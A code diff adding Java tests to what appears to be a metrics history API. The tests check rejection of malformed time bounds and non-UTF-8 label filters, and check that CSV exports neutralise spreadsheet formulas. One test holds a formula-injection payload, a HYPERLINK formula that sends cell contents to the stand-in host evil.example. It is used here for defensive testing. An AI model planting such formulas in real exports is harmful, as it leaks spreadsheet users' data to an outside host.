@@ -12,6 +12,9 @@ import io.vertx.core.json.JsonArray;
 import io.vertx.core.json.JsonObject;
 import io.vertx.ext.web.client.HttpResponse;
 import io.vertx.junit5.VertxExtension;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -105,5 +108,44 @@ class HistoryApiTest {
   @Test
   void unknown_metric_is_404() {
     assertThat(http.get("/api/v1/metrics/nope/points").statusCode()).isEqualTo(404);
+  }
+
+  private static String pointer(HttpResponse<Buffer> r) {
+    assertThat(r.statusCode()).isEqualTo(422);
+    assertThat(r.getHeader("Content-Type")).isEqualTo("application/problem+json");
+    return r.bodyAsJsonObject().getJsonArray("errors").getJsonObject(0).getString("pointer");
+  }
+
+  @Test
+  void rejects_time_bounds_that_are_not_rfc_3339_naming_the_parameter() {
+    assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?from=%2B10000-01-01T00:00:00Z"))).isEqualTo("from");
+    assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?to=-0001-01-01T00:00:00Z"))).isEqualTo("to");
+    assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?from=%2B002024-01-01T00:00:00Z"))).isEqualTo("from");
+    assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?to=2025-09-01T00:00:00.0000001Z"))).isEqualTo("to");
+  }
+
+  @Test
+  void takes_a_lower_case_t_and_z_in_a_time_bound() {
+    JsonObject h = http.get("/api/v1/metrics/weekly_users/points?region=kr&from=2025-09-02t00:00:00z")
+        .bodyAsJsonObject();
+    assertThat(points(h, "kr")).hasSize(3);
+  }
+
+  @Test
+  void rejects_a_label_filter_with_nul_or_text_that_is_not_utf8_naming_it() {
+    for (String bad : List.of("%00", "k%00r", "%FF", "%ED%A0%80", "%C0%80")) {
+      assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?region=" + bad))).as(bad).isEqualTo("region");
+    }
+  }
+
+  @Test
+  void gives_csv_without_live_formulas_and_with_plain_numbers() throws Exception {
+    String label = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")";
+    http.postPoints(batch(point("weekly_users", label, "2025-09-10T00:00:00Z", 7e8).put("source", "@SUM(1)")));
+    HttpResponse<Buffer> r = http.get("/api/v1/metrics/weekly_users/points?region="
+        + URLEncoder.encode(label, StandardCharsets.UTF_8), "Accept", "text/csv");
+    List<List<String>> rows = CsvTest.read(r.bodyAsString());
+    assertThat(rows.get(1)).containsExactly("weekly_users", "'" + label, "2025-09-10T00:00:00Z", "700000000.0",
+        "'@SUM(1)");
   }
 }
